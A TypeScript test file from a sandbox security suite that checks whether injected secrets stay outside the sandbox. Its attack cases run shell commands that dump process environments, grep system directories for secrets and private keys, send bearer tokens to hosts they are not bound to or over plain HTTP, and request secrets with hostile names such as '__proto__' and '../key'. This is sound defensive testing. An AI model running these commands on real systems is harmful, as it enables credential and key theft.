import { randomBytes } from "node:crypto";
import type { SandboxHandle } from "../../../src/sandbox/index.ts";
import {
  type AttackCase,
  type AttackedRuntime,
  allRuntimes,
  type Observation,
  systemRuntimes,
} from "../attack-case.ts";
import type { Lab, LabClient } from "../lab/lab.ts";
import { labSpec } from "../lab/lab.ts";
import { newScene } from "../lab/scene.ts";

/** Values that nothing else contains. */
const canaries = {
  key: `canary-${randomBytes(12).toString("hex")}`,
  other: `canary-${randomBytes(12).toString("hex")}`,
};
const egress = ["api.test", "allowed.test", "a.second.test"];
const secrets = ["key", "other"];
/** A client whose sandboxes get the secrets as placeholders, or, as the control, as they are. */
function secretClient(lab: Lab, runtime: AttackedRuntime, inject: "env" | "proxy"): Promise<LabClient> {
  const hosts = (host: string) => (inject === "proxy" ? { hosts: [host] } : { redact: false });
  return lab.once(`secrets ${runtime} ${inject}`, () =>
    lab.client(runtime, {
      secrets: {
        key: { from: { value: () => canaries.key }, inject, env: "KEY", ...hosts("api.test") },
        other: { from: { value: () => canaries.other }, inject, env: "OTHER", ...hosts("a.second.test") },
      },
    }),
  );
}

function secretSandbox(lab: Lab, runtime: AttackedRuntime, inject: "env" | "proxy"): Promise<SandboxHandle> {
  return lab.once(`sandbox with secrets ${runtime} ${inject}`, async () => {
    const { client } = await secretClient(lab, runtime, inject);
    return await client.create(labSpec(runtime, { egress, secrets }));
  });
}

/** An attack that succeeds when a value arrives where it must not. */
function leak(
  fields: Pick<AttackCase, "name" | "attack" | "title" | "protection">,
  script: (token: string, insecure: string) => string,
): AttackCase {
  const launch = async (lab: Lab, sandbox: SandboxHandle, runtime: AttackedRuntime): Promise<Observation> => {
    const { token } = newScene();
    const { stdout } = await sandbox.shell(script(token, insecureOn(runtime)));
    const arrivals = await lab.arrivals();
    const leaked = arrivals.some((seen) => {
      const text = JSON.stringify(seen);
      return text.includes(token) && Object.values(canaries).some((value) => text.includes(value));
    });
    const last = stdout.trim().split("\n").at(-1) ?? "";
    return { succeeded: leaked, seen: leaked ? "the value arrived" : `the value did not arrive; ${last}` };
  };
  return {
    ...fields,
    runtimes: allRuntimes,
    off: async (lab) =>
      await launch(lab, await secretSandbox(lab, lab.controlRuntime, "env"), lab.controlRuntime),
    on: async (lab, runtime) => await launch(lab, await secretSandbox(lab, runtime, "proxy"), runtime),
  };
}

/** The option of curl that trusts any server; the embedded runtime trusts whom its host trusts. */
const insecureOn = (runtime: AttackedRuntime) => (runtime === "embedded" ? "" : "-k");

const ask = (insecure: string, url: string, options: string) =>
  `curl -s ${insecure} -m 10 -o /dev/null -w 'status %{http_code}\\n' ${options} "${url}"`;

/** Secrets whose value stays outside. */
export const secretCases: readonly AttackCase[] = [
  {
    name: "read-the-secret",
    attack: 54,
    title: "Reading the secret from the environment, from every process and file",
    protection: "only a placeholder is inside; the value goes to its host alone",
    runtimes: allRuntimes,
    off: async (lab) => {
      const { stdout } = await (await secretSandbox(lab, lab.controlRuntime, "env")).shell("env");
      return { succeeded: stdout.includes(canaries.key), seen: "the value is in the environment" };
    },
    async on(lab, runtime) {
      const sandbox = await secretSandbox(lab, runtime, "proxy");
      const { token } = newScene();
      const used = await sandbox.shell(
        `curl -s -m 10 -H "Authorization: Bearer $KEY" https://api.test/${token}`,
      );
      const isUsed = (await lab.arrivals()).some(
        (seen) =>
          seen.kind === "request" &&
          seen.target.includes(token) &&
          seen.headers.authorization === `Bearer ${canaries.key}`,
      );
      if (!isUsed) throw new Error(`the value did not get to its own host: ${used.output}`);
      const { output } = await sandbox.shell(
        "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>&1 | tr '\\0' '\\n'; grep -r canary- /workspace /tmp /run /etc 2>&1",
      );
      return { succeeded: output.includes(canaries.key), seen: "a placeholder; its own host got the value" };
    },
  },
  leak(
    {
      name: "secret-to-another-host",
      attack: 55,
      title: "Sending the placeholder to a host that it is not bound to",
      protection: "values are put in on the way to their host alone",
    },
    (token, insecure) => ask(insecure, `https://allowed.test/${token}`, `-H "Authorization: Bearer $KEY"`),
  ),
  leak(
    {
      name: "secret-in-plain",
      attack: 55,
      title: "Sending the placeholder over plain HTTP and in the query, to its own host",
      protection: "values are put into headers over TLS alone",
    },
    (token, insecure) =>
      [
        ask(insecure, `https://api.test/${token}?key=$KEY`, ""),
        ask(insecure, `http://api.test/${token}?key=$KEY`, ""),
        ask(insecure, `http://api.test/${token}`, `-H "Authorization: Bearer $KEY"`),
      ].join("; "),
  ),
  leak(
    {
      name: "secret-of-another-host",
      attack: 58,
      title: "Sending one secret's placeholder to the host of another secret",
      protection: "each value has hosts of its own",
    },
    (token, insecure) => ask(insecure, `https://a.second.test/${token}`, `-H "Authorization: Bearer $KEY"`),
  ),
  {
    name: "echoed-secret",
    attack: 57,
    title: "An endpoint that gives the value back in a header",
    protection: "values are taken out of the headers of answers",
    runtimes: allRuntimes,
    off: async (lab) => await echo(await secretSandbox(lab, lab.controlRuntime, "env"), "-k"),
    on: async (lab, runtime) => await echo(await secretSandbox(lab, runtime, "proxy"), ""),
  },
  {
    name: "placeholder-of-another-sandbox",
    attack: 59,
    title: "Using the placeholder of another sandbox",
    protection: "placeholders differ, and hold in their own sandbox alone",
    runtimes: allRuntimes,
    off: async (lab) => await borrow(lab, lab.controlRuntime, "env"),
    on: async (lab, runtime) => await borrow(lab, runtime, "proxy"),
  },
  {
    name: "hostile-secret-names",
    attack: 60,
    title: "Asking for secrets named __proto__, ../x, 10 KB of text, other letters",
    protection: "only names of the policy are granted",
    runtimes: allRuntimes,
    off: "without a check of names there is nothing to grant",
    async on(lab, runtime) {
      const { client } = await secretClient(lab, runtime, "proxy");
      const codes = new Set<string>();
      for (const name of [
        "__proto__",
        "constructor",
        "../key",
        "key\n",
        "КЕУ",
        "",
        "k".repeat(10_000),
        "unknown",
      ]) {
        const attempt = client.create(labSpec(runtime, { egress, secrets: [name] }));
        codes.add(
          await attempt.then(
            () => "granted",
            (error: { code?: string }) => error.code ?? "no code",
          ),
        );
      }
      return { succeeded: codes.has("granted"), seen: `refused: ${[...codes].sort().join(", ")}` };
    },
  },
  {
    name: "authority-of-another-sandbox",
    attack: 61,
    title: "Finding the authority's key inside, and one authority for two sandboxes",
    protection: "each sandbox has an authority; its key stays in the gateway's memory",
    runtimes: systemRuntimes,
    off: "there is no authority where no TLS is terminated",
    async on(lab, runtime) {
      const { client } = await secretClient(lab, runtime, "proxy");
      const one = await secretSandbox(lab, runtime, "proxy");
      await using other = await client.create(labSpec(runtime, { egress, secrets }));
      const [first, second] = await Promise.all([one, other].map((sandbox) => authority(sandbox)));
      const isForeign = first !== undefined && first !== second;
      const { stdout } = await one.shell(
        "grep -rls 'PRIVATE KEY' /workspace /tmp /run /etc /var 2>/dev/null | head -1",
      );
      const succeeded = !isForeign || stdout.trim() !== "";
      return { succeeded, seen: succeeded ? stdout : "no key inside; the authorities differ" };
    },
  },
];

async function echo(sandbox: SandboxHandle, insecure: string): Promise<Observation> {
  const { stdout } = await sandbox.shell(
    `curl -si ${insecure} -m 10 -H "Authorization: Bearer $KEY" 'https://api.test/?echo'`,
  );
  const header = /^x-echo: (.*)$/im.exec(stdout)?.[1];
  if (header === undefined) throw new Error(`the endpoint did not answer: ${stdout}`);
  const succeeded = header.includes(canaries.key);
  return {
    succeeded,
    seen: succeeded ? "the value came back in a header" : "the header holds the placeholder",
  };
}

async function borrow(lab: Lab, runtime: AttackedRuntime, inject: "env" | "proxy"): Promise<Observation> {
  const owner = await secretSandbox(lab, runtime, inject);
  const { client } = await secretClient(lab, runtime, inject);
  await using thief = await client.create(labSpec(runtime, { egress, secrets }));
  const [own, foreign] = await Promise.all([thief, owner].map((box) => box.shell('printf %s "$KEY"')));
  const { token } = newScene();
  const insecure = insecureOn(runtime);
  await thief.shell(
    ask(insecure, `https://api.test/${token}`, `-H "Authorization: Bearer ${foreign?.stdout}"`),
  );
  const arrived = (await lab.arrivals()).some(
    (seen) => JSON.stringify(seen).includes(token) && JSON.stringify(seen).includes(canaries.key),
  );
  const succeeded = arrived || own?.stdout === foreign?.stdout;
  return {
    succeeded,
    seen: succeeded ? "the value arrived" : "the value did not arrive; placeholders differ",
  };
}

/** The certificate of the sandbox's own authority: the last one of its trusted roots. */
async function authority(sandbox: SandboxHandle): Promise<string | undefined> {
  const { stdout } = await sandbox.shell('cat "$SSL_CERT_FILE"');
  return stdout.match(/-----BEGIN CERTIFICATE-----[\s\S]*?-----END CERTIFICATE-----/g)?.at(-1);
}
